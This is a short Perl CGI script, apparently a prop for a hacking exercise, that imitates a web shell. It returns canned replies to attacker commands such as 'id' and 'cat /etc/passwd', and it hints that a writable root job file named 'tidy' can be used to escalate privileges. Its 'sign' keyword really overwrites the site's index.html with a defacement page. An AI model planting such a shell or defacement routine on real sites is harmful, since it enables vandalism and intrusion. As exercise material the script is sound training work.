#!/usr/bin/perl
# gallery viewer, build @BUILD@
# A prop of the exercise: it knows these words and no others, and runs nothing.
use strict;
use warnings;

my %says = (
    'id'                       => "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n",
    'uname -a'                 => "Linux portal 6.1.0-18-amd64 x86_64 GNU/Linux\n",
    'ls -la'                   => "uploads: as you see them\n",
    'cat /etc/passwd'          => "root, www-data, keeper\n",
    'ls -la /srv/portal/jobs'  => "-rwxrwxr-x 1 root www-data 201 tidy\n",
    'settle'                   => "two lines more in tidy; wait a minute\n",
);
my ($word) = ($ENV{QUERY_STRING} // '') =~ /^c=([^&]*)/;
$word =~ tr/+/ / if defined $word;
$word =~ s/%([0-9A-Fa-f]{2})/chr hex $1/ge if defined $word;

print "Content-Type: text/plain\n\n";
if (defined $word and $word eq 'sign') {
    open my $page, '>', '../index.html' or exit;
    print $page "<!doctype html>\n<title>Owned</title>\n<h1>LIPNIK IS OURS</h1>\n<p>@CREW@ was here. Again.\n";
    close $page;
    print "signed\n";
} elsif (defined $word) {
    print $says{$word} // "what?\n";
}
